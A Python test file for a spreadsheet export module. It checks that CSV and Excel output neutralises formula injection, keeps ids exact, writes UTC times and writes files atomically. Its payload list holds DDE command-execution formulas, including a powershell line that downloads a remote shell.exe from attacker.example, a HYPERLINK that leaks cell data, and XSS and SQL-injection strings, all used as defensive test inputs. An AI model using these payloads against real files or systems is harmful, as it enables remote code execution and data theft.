"""Spreadsheet exports: no formula ever, ids exact, times UTC, atomic writes."""

from __future__ import annotations

import csv
import datetime as dt
import os

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tsinvest.exceptions import ParameterError
from tsinvest.reporting.safe_export import (
    DANGEROUS_PREFIXES,
    is_dangerous,
    neutralise_text,
    safe_frame,
    to_safe_csv,
    to_safe_excel,
)

# Hostile cells seen in CSV-injection write-ups, plus spreadsheet look-alikes
# of ids and errors that must stay text.
NAUGHTY = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!'E1'",
    "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "\u202e=1+1",
    "-5",
    "+44 20 7946 0000",
    "@mention",
    "=",
    "'=already quoted",
    "a=b",
    "#N/A",
    "#REF!",
    "TRUE",
    "0012",
    "1234567890123456789",
    "1e5",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "\"onmouseover=alert(1)",
    "Robert'); DROP TABLE Students;--",
    "line\nbreak",
    "x\r\ny",
    "nul\x00byte",
    "null",
    "NaN",
    "",
    " ",
    "ﷺ\u202eexe.gpj",
    "👩\u200d👩\u200d👧",
]


def _read_csv_cells(path) -> list[list[str]]:
    # The stdlib reader, as a partner's script would read the file.
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def _starts_dangerously(cell: str) -> bool:
    return cell.startswith(DANGEROUS_PREFIXES) or is_dangerous(cell)


def test_neutralise_rules():
    assert neutralise_text(["=1", "+1", "-1", "@a", "\t1", "\r1", " =1", "\n@x"]) == [
        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1", "' =1", "\n'@x",  # the quote goes after the line break
    ]
    assert neutralise_text(["a=1", "'=1", "", "1-2", 5, None, -5]) == ["a=1", "'=1", "", "1-2", 5, None, -5]


def test_csv_neutralises_text_but_keeps_numbers_and_ids(tmp_path):
    frame = pd.DataFrame(
        {
            "account_id": pd.array(["0012345678901234567", "1234567890123456789"], dtype="string"),
            "username": pd.array(["=HYPERLINK(\"x\")", "-5"], dtype="string"),
            "balance": [-5, 3],
            "score": [-0.5, 1.25],
            "flag": [True, False],
        }
    )
    path = to_safe_csv(frame, tmp_path / "out.csv")
    rows = _read_csv_cells(path)
    assert rows[0] == ["account_id", "username", "balance", "score", "flag"]
    assert rows[1] == ["0012345678901234567", "'=HYPERLINK(\"x\")", "-5", "-0.5", "True"]
    # A text "-5" is neutralised because it is text; the numeric -5 stays a number.
    assert rows[2] == ["1234567890123456789", "'-5", "3", "1.25", "False"]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") and b"\r\n" in path.read_bytes()


def test_csv_headers_are_neutralised_too(tmp_path):
    path = to_safe_csv(pd.DataFrame({"=evil": ["x"]}), tmp_path / "h.csv")
    assert _read_csv_cells(path)[0] == ["'=evil"]


def test_csv_timestamps_are_iso_utc(tmp_path):
    frame = pd.DataFrame(
        {
            "ts": pd.to_datetime(["2024-03-01T10:00:00+01:00", None], utc=True),
            "naive": pd.to_datetime(["2024-03-01 09:00:00.250", "2024-03-02 00:00:00.000"]),
        }
    )
    rows = _read_csv_cells(to_safe_csv(frame, tmp_path / "t.csv"))
    assert rows[1:] == [["2024-03-01T09:00:00Z", "2024-03-01T09:00:00.250000Z"], ["", "2024-03-02T00:00:00.000000Z"]]


def test_numeric_id_columns_and_huge_integers_become_text():
    frame = pd.DataFrame({"account_id": [12, 7], "big": [2**60, 1], "count": [2**40, 5]})
    prepared = safe_frame(frame)
    assert prepared["account_id"].tolist() == ["12", "7"]
    assert prepared["big"].tolist() == [str(2**60), "1"]
    assert prepared["count"].tolist() == [2**40, 5]
    assert safe_frame(frame, id_columns=["count"])["count"].tolist() == [str(2**40), "5"]


def test_missing_values_become_empty_cells(tmp_path):
    frame = pd.DataFrame({"a": pd.array(["x", None], dtype="string"), "n": pd.array([1, None], dtype="Int64")})
    assert _read_csv_cells(to_safe_csv(frame, tmp_path / "m.csv"))[1:] == [["x", "1"], ["", ""]]


def _all_cells(path):
    workbook = openpyxl.load_workbook(path)
    return workbook, [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_excel_has_no_formula_and_keeps_ids(tmp_path):
    frames = {
        "accounts": pd.DataFrame(
            {
                "account_id": pd.array(["1234567890123456789", "0000000000000000042"], dtype="string"),
                "username": pd.array(["=1+1", "#N/A"], dtype="string"),
                "followers": pd.array([10, None], dtype="Int64"),
                "created_at": pd.to_datetime(["2024-01-02T03:04:05Z", "2024-01-03T00:00:00+02:00"], utc=True),
            }
        ),
        "naughty": pd.DataFrame({"text": NAUGHTY, "target_id": range(len(NAUGHTY))}),
    }
    path = to_safe_excel(frames, tmp_path / "out.xlsx")
    workbook, cells = _all_cells(path)
    assert workbook.sheetnames == ["accounts", "naughty"]
    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if isinstance(cell.value, str) and _starts_dangerously(cell.value)] == []
    accounts = workbook["accounts"]
    assert [cell.value for cell in accounts[1]] == ["account_id", "username", "followers", "created_at (UTC)"]
    assert accounts["A2"].value == "1234567890123456789" and accounts["A2"].data_type == "s"
    assert accounts["A2"].number_format == "@"
    assert accounts["A3"].value == "0000000000000000042"
    assert (accounts["B2"].value, accounts["B3"].value, accounts["B3"].data_type) == ("'=1+1", "#N/A", "s")
    assert (accounts["C2"].value, accounts["C2"].data_type, accounts["C3"].value) == (10, "n", None)
    assert accounts["D2"].value == dt.datetime(2024, 1, 2, 3, 4, 5)
    assert accounts["D3"].value == dt.datetime(2024, 1, 2, 22, 0, 0)
    naughty = workbook["naughty"]
    assert naughty["B2"].value == "0" and naughty["B2"].data_type == "s"  # *_id column written as text
    values = [row[0] for row in naughty.iter_rows(min_row=2, values_only=True)]
    expected = ["'" + text if is_dangerous(text) else text for text in NAUGHTY]
    # XML cannot hold NUL (becomes U+FFFD); openpyxl writes through lxml (a
    # dependency), which keeps a carriage return as a character reference.
    expected = [text.replace("\x00", "\ufffd") or None for text in expected]
    assert values == expected


def test_excel_truncates_and_cleans_cells_it_cannot_store(tmp_path):
    frame = pd.DataFrame({"text": ["x" * 40_000, "bell\x07\x1b[31m"], "score": [float("inf"), float("-inf")]})
    workbook, cells = _all_cells(to_safe_excel({"s": frame}, tmp_path / "c.xlsx"))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    sheet = workbook["s"]
    assert len(sheet["A2"].value) == 32767 and sheet["A2"].value.endswith("…[truncated]")
    assert sheet["A3"].value == "bell\ufffd\ufffd[31m"
    assert (sheet["B2"].value, sheet["B3"].value) == ("inf", "'-inf")


@pytest.mark.parametrize("names", [{}, {"a" * 32: None}, {"a/b": None}, {"Data": None, "data": None}])
def test_excel_rejects_bad_sheet_names(tmp_path, names):
    frames = {name: pd.DataFrame({"x": [1]}) for name in names}
    with pytest.raises(ParameterError):
        to_safe_excel(frames, tmp_path / "bad.xlsx")
    assert not (tmp_path / "bad.xlsx").exists()


def test_failed_export_leaves_previous_file_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "report.xlsx"
    target.write_bytes(b"previous report")

    save = openpyxl.Workbook.save

    def crash_after_writing(self, filename):
        save(self, filename)
        raise OSError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", crash_after_writing)
    with pytest.raises(OSError):
        to_safe_excel({"s": pd.DataFrame({"x": ["a"]})}, target)
    assert target.read_bytes() == b"previous report"
    assert sorted(os.listdir(tmp_path)) == ["report.xlsx"]


def test_written_files_are_private_and_replace_atomically(tmp_path):
    path = to_safe_csv(pd.DataFrame({"x": ["a"]}), tmp_path / "sub" / "p.csv")
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    to_safe_csv(pd.DataFrame({"x": ["b"]}), path)
    assert _read_csv_cells(path) == [["x"], ["b"]]
    assert sorted(os.listdir(path.parent)) == ["p.csv"]


_CELL = st.one_of(
    st.sampled_from(NAUGHTY),
    st.text(max_size=12),
    st.builds(lambda prefix, body: prefix + body, st.sampled_from(DANGEROUS_PREFIXES + (" ", "\u200b")), st.text(max_size=8)),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.tuples(_CELL, _CELL), min_size=1, max_size=8))
def test_csv_property_no_cell_starts_dangerously(tmp_path, cells):
    frame = pd.DataFrame(cells, columns=["first", "second"], dtype="string")
    rows = _read_csv_cells(to_safe_csv(frame, tmp_path / "p.csv"))
    assert rows[0] == ["first", "second"]
    assert len(rows) == len(cells) + 1
    for original_row, written_row in zip(cells, rows[1:]):
        for original, written in zip(original_row, written_row):
            assert not _starts_dangerously(written)
            assert written == neutralise_text([original])[0]
            if not is_dangerous(original, after_separators=True):
                assert written == original
    # Read as a German/French spreadsheet would (";" separates cells): still no formula.
    import io

    text = (tmp_path / "p.csv").read_bytes().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in row:
            assert not _formula_like(cell)


# --- issue 13: list separators, one safe writer ----------------------------------------------


def _formula_like(cell: str) -> bool:
    """What a spreadsheet reading a split cell would run: a marker after quotes, blanks, invisibles."""
    import re

    from tsinvest.reporting.safe_export import _IGNORABLE

    return bool(re.match(f'^[{_IGNORABLE}"]*[=+\\-@]', cell))


@pytest.mark.parametrize("cell", ["x;=1+1", "a,@SUM(1)", "x; +cmd|' /C calc'!A0", "k;\u200b-2+3"])
def test_formula_after_a_list_separator_is_neutralised(tmp_path, cell):
    path = to_safe_csv(pd.DataFrame({"user": ["alice"], "bio": [cell]}), tmp_path / "s.csv")
    text = path.read_text(encoding="utf-8-sig")
    for delimiter in (",", ";"):
        for row in csv.reader(text.splitlines(), delimiter=delimiter):  # no line breaks in these cells
            for value in row:
                assert not _formula_like(value), (delimiter, value)
    # The text is kept, with a visible quote before the marker; every text cell is quoted.
    assert _read_csv_cells(path)[1][1].replace("'", "", 1) == cell
    assert text.splitlines()[1].startswith('"alice",')


def test_atomic_write_is_private_refuses_links_and_can_refuse_to_overwrite(tmp_path):
    from tsinvest.reporting.safe_export import atomic_write, write_json, write_text

    target = write_text(tmp_path / "a.txt", "one")
    assert oct(target.stat().st_mode & 0o777) == "0o600"
    with pytest.raises(ParameterError, match="already exists"):
        write_text(target, "two", overwrite=False)
    assert target.read_text() == "one"
    (tmp_path / "link.json").symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(ParameterError, match="symbolic link"):
        write_json(tmp_path / "link.json", {"a": 1})
    assert not (tmp_path / "elsewhere.json").exists()
    with pytest.raises(RuntimeError):
        with atomic_write(tmp_path / "b.txt") as temporary:
            temporary.write_text("half")
            raise RuntimeError("failed midway")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.txt", "link.json"]
    csv_path = to_safe_csv(pd.DataFrame({"x": ["=1"]}), tmp_path / "c.csv")
    xlsx_path = to_safe_excel({"s": pd.DataFrame({"x": ["=1"]})}, tmp_path / "c.xlsx")
    assert {oct(path.stat().st_mode & 0o777) for path in (csv_path, xlsx_path)} == {"0o600"}
